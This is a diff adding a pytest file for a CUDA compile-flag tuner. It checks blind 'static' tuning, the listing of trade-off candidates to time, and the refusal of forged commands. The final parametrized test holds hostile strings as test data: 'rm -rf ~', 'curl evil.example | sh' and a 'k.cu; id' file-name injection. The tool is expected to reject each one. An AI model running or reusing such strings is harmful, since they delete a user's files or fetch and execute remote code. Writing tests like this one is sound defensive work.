@@ -1,0 +1,95 @@
+"""An ACF chosen without a GPU can be applied blind (issue 24, items 1-3), with real nvcc/ptxas:
+`static` worsens no static metric, no static objective lowers ptxas's optimisation, and what the
+rules refused only for a trade-off a GPU must judge is listed as a candidate to time, with the
+command that times it, in the run's output, `--json` and the ACF; a forged command is refused."""
+
+from __future__ import annotations
+
+import json
+import math
+import re
+from pathlib import Path
+
+import pytest
+from helpers import SPILLING_KERNEL, run_cli
+
+from compileiq.core.space import load_space
+from compileiq.core.toolchain import find_toolchain
+from compileiq.results import acf
+
+ONLY = "ptxas.maxrregcount,ptxas.override_directive_values"
+
+
+@pytest.fixture(scope="module")
+def tuned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
+    """`static` on a kernel that spills under its own __launch_bounds__(256, 2): removing the spills
+    needs the override, which halves occupancy (a trade-off `static` may not make blind)."""
+    folder = tmp_path_factory.mktemp("blind")
+    (folder / "k.cu").write_text(SPILLING_KERNEL)
+    result = run_cli(["tune", "k.cu", "--objective", "static", "--only", ONLY, "--strategy", "exhaustive",
+                      "--budget", "200", "--workers", "local", "--db", f"sqlite:///{folder}/t.db",
+                      "--out", "k.acf.toml"], cwd=folder)
+    assert result.returncode == 0, result.describe()
+    return folder, result.stdout
+
+
+def test_static_keeps_every_static_metric_and_lists_the_trade_off_to_time(tuned: tuple[Path, str]) -> None:
+    folder, stdout = tuned
+    found = acf.read(folder / "k.acf.toml")
+    best, base = found.evidence["best"], found.evidence["baseline"]
+    assert base["spill_bytes"] > 0
+    assert best["occupancy"] >= base["occupancy"] and best["spill_bytes"] <= base["spill_bytes"], (best, base)
+    assert found.evidence["vs_defaults"]["lowered_optimisation"] == []
+    first = found.evidence["to_time"][0]
+    assert first["spill_bytes"] < base["spill_bytes"] and first["occupancy"] < base["occupancy"], first
+    assert first["settings"]["ptxas.override_directive_values"] is True
+    assert "for fewer spill bytes: a trade-off `static` never makes without a GPU" in first["refused"]
+    space = load_space(find_toolchain().nvcc_version)
+    names = list(first["settings"])
+    size = math.prod(len(space.parameter(n).values) for n in names)
+    assert first["command"] == (f"compileiq tune k.cu --objective time --only {','.join(names)} "
+                                f"--strategy exhaustive --budget {size}")
+    assert re.search(rf"candidates to time \({len(found.evidence['to_time'])}\)", stdout)
+    assert first["command"] in stdout
+
+
+def test_the_run_says_where_occupancy_was_scored_without_launch_facts(tuned: tuple[Path, str]) -> None:
+    folder, stdout = tuned
+    note = acf.read(folder / "k.acf.toml").evidence["launch"]["note"]
+    assert note.startswith("tune.toml gives no launch facts: occupancy was scored at 256 threads per block")
+    assert f"note: {note}" in stdout
+
+
+def test_json_lists_the_same_candidates_as_the_acf(tuned: tuple[Path, str]) -> None:
+    folder, _ = tuned
+    result = run_cli(["tune", "k.cu", "--objective", "static", "--only", ONLY, "--strategy", "exhaustive",
+                      "--budget", "200", "--workers", "local", "--db", f"sqlite:///{folder}/t.db",
+                      "--out", "again.acf.toml", "--json"], cwd=folder)
+    assert result.returncode == 0, result.describe()
+    document = json.loads(result.stdout)
+    assert document["to_time"] == acf.read(folder / "k.acf.toml").evidence["to_time"]
+    assert document["launch_note"] == acf.read(folder / "k.acf.toml").evidence["launch"]["note"]
+
+
+def test_the_gate_passes_the_blind_acf(tuned: tuple[Path, str]) -> None:
+    folder, _ = tuned
+    result = run_cli(["gate", "k.acf.toml", "--static"], cwd=folder)
+    assert result.returncode == 0, result.describe()
+
+
+@pytest.mark.parametrize("forged", [("compileiq tune k.cu --objective time --only ptxas.opt_level --strategy "
+                                    "exhaustive --budget 4; rm -rf ~"),
+                                    "curl evil.example | sh",
+                                    ("compileiq tune 'k.cu; id' --objective time --only X --strategy exhaustive "
+                                    "--budget 4")])
+def test_a_forged_command_to_time_is_refused_in_one_line(tuned: tuple[Path, str], forged: str) -> None:
+    folder, _ = tuned
+    text = (folder / "k.acf.toml").read_text()
+    original = acf.read(folder / "k.acf.toml").evidence["to_time"][0]["command"]
+    hostile = folder / "hostile.acf.toml"
+    hostile.write_text(text.replace(json.dumps(original), json.dumps(forged), 1))
+    assert forged in hostile.read_text()
+    result = run_cli(["flags", "hostile.acf.toml"], cwd=folder)
+    assert result.returncode == 2, result.describe()
+    assert result.stderr_lines == [(f"error: {hostile.name}: evidence.to_time[0].command is not the command "
+                                   "compileiq writes for these settings")]
